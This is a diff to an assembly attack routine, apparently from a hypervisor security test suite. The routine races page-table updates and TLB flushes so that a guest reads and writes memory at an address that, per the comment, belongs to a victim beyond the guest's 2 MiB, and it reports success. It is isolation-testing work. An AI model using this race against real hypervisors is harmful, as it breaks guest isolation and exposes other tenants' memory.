@@ -236,7 +236,7 @@ race_entries:
 
 /*
  * The same a level up: an entry that is now a table, now a page of 2 MiB beyond the guest's memory. What was read as a table must
- * not be used as a page.
+ * not be used as a page. The 2 MiB are the guest's for their first half, and at the address that is read the victim's.
  */
 ATTACK  upper_table_race
         movq    $race_upper, %rbx
@@ -244,12 +244,12 @@ ATTACK  upper_table_race
         movl    $300, %r13d
 1:      HCALL   LHCALL_SET_PMD, $PD_LOW_PA, $4
         HCALL   LHCALL_FLUSH_TLB, $0
-        TRY     movq 0x808000, %rax
+        TRY     movq 0x908000, %rax
         cmpl    $-1, %r12d
         jne     2f
-        movl    $0x808000, %ebx
+        movl    $0x908000, %ebx
         REPORT  R_READ, %rbx, %rax
-2:      TRY     movq $MARK, 0x808008
+2:      TRY     movq $MARK, 0x908008
         decl    %r13d
         jnz     1b
         END
